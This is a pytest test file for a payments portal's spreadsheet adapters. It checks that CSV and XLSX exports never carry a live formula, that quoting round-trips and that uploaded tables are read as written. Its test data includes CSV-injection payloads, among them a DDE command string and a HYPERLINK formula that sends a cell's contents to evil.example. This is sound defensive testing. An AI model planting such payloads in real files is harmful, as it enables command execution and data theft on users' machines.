"""No file that we write holds a formula, whoever chose its words; and what was quoted is read as it was meant."""

import csv
import io
import re
from collections.abc import Callable, Mapping
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from portal.adapters import bank
from portal.adapters.sheets import spreadsheets
from portal.adapters.sheets.tables import read_table

HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&D2,"ok")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u200b=1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def payment(word: str) -> bank.Payment:
    return bank.Payment("P-1", word, word, "62220000", 1, word)


WRITERS: Mapping[str, Callable[[str], bytes]] = {
    "csv": lambda word: spreadsheets.csv_file([[word, word]]),
    "xlsx": lambda word: spreadsheets.workbook_file(spreadsheets.Sheet([[word, word]])),
    "payments as csv": lambda word: bank.write_payments([payment(word)], "B-1"),
    "payments as xlsx": lambda word: bank.payments_workbook(bank.write_payments([payment(word)], "B-1")),
    "results": lambda word: bank.write_results([bank.Result("P-1", 1, "failed", word)]),
}
"""A word in every file that the adapters write. What the pages write goes by the same two functions: a test of the
house sees to it, and `tests/web/every_page/test_formulas.py` tries them."""


def formulas(data: bytes) -> list[str]:
    """The cells that a spreadsheet would run."""
    if data.startswith(b"PK"):
        cells = [cell for sheet in load_workbook(io.BytesIO(data)) for row in sheet.iter_rows() for cell in row]
        wild = [cell for cell in cells if cell.data_type == "s" and spreadsheets.begins_like_formula(cell.value)]
        return [cell.value for cell in cells if cell.data_type == "f"] + [
            cell.value for cell in wild if not cell.quotePrefix
        ]
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    words = [cell for row in rows for cell in row if not NUMBER.fullmatch(cell)]
    return [word for word in words if spreadsheets.begins_like_formula(word)]


@pytest.mark.parametrize("word", HOSTILE)
@pytest.mark.parametrize("writer", WRITERS.values(), ids=list(WRITERS))
def test_no_writer_writes_a_formula(writer: Callable[[str], bytes], word: str) -> None:
    assert formulas(writer(word)) == []


def test_the_test_above_can_fail() -> None:
    assert formulas("=1+1,王\n".encode()) == ["=1+1"]


@given(st.text())
def test_what_was_quoted_is_read_as_it_was(text: str) -> None:
    assert spreadsheets.unquoted(spreadsheets.quoted(text)) == text
    assert not spreadsheets.begins_like_formula(spreadsheets.quoted(text))


@pytest.mark.parametrize("word", ["王小明", "'王", "3-1203", "（杭州）安居", "A-B", ""])
def test_a_harmless_word_stays_as_it_is(word: str) -> None:
    assert spreadsheets.quoted(word) == word


def test_figures_and_days_stay_figures_and_days() -> None:
    row = [Decimal("-12.50"), -3, date(2026, 3, 1), datetime(2026, 3, 1, 16, 30, tzinfo=UTC), None]
    assert spreadsheets.csv_text([row]) == "-12.50,-3,2026-03-01,2026-03-02 00:30,\r\n"
    sheet = load_workbook(io.BytesIO(spreadsheets.workbook_file(spreadsheets.Sheet([row])))).active
    assert [cell.data_type for cell in sheet[1]] == ["n", "n", "d", "d", "n"]


def test_an_uploaded_table_is_read_as_it_was_meant() -> None:
    rows = [["unit"], *([word] for word in HOSTILE)]
    assert [cells[0] for _, cells in read_table(spreadsheets.csv_file(rows))][1:] == [word.strip() for word in HOSTILE]
